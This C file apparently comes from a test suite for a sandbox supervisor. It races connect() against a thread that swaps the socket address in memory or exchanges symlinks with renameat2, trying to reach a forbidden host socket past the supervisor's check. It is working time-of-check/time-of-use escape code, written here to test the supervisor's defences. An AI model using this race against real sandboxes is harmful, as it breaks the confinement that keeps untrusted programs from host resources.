/* Connects to a host socket while another thread swaps what the supervisor looks at between an allowed socket of its own and the
 * host's: the address in memory, or the file that the path names (IPC; pitfall 2: nothing may be read twice). */
#include "attack.h"
#include <pthread.h>

static struct sockaddr_un raced, own, host;
static char link_own[200], link_host[200];
static int by_path;
static volatile int done;

static void *swapper(void *unused)
{
	while (!done)
		if (by_path)
			syscall(SYS_renameat2, AT_FDCWD, link_own, AT_FDCWD, link_host, 2 /* RENAME_EXCHANGE */);
		else {
			memcpy(&raced, &own, sizeof own);
			memcpy(&raced, &host, sizeof host);
		}
	return unused;
}

int main(int argc, char **argv)
{
	pthread_t thread;
	by_path = !strcmp(argv[1], "path");
	own.sun_family = host.sun_family = raced.sun_family = AF_UNIX;
	char folder[] = "/tmp/race-XXXXXX";
	tried();
	if (!mkdtemp(folder))
		return denied("mkdtemp");
	snprintf(own.sun_path, sizeof own.sun_path, "%s/own", folder);
	snprintf(host.sun_path, sizeof host.sun_path, "%s", argv[2]);
	snprintf(link_own, sizeof link_own, "%s/a", folder);
	snprintf(link_host, sizeof link_host, "%s/b", folder);
	int listener = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
	if (bind(listener, (void *)&own, sizeof own) || listen(listener, 4096) || symlink(own.sun_path, link_own) ||
	    symlink(host.sun_path, link_host))
		denied("a socket of its own");
	if (by_path)
		strcpy(raced.sun_path, link_own);
	pthread_create(&thread, 0, swapper, 0);
	for (int i = 0; i < 3000; i++) {
		int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
		connect(fd, (void *)&raced, sizeof raced);
		close(fd);
		close(accept4(listener, 0, 0, SOCK_NONBLOCK));
	}
	done = 1;
	pthread_join(thread, 0);
	return 0;
}
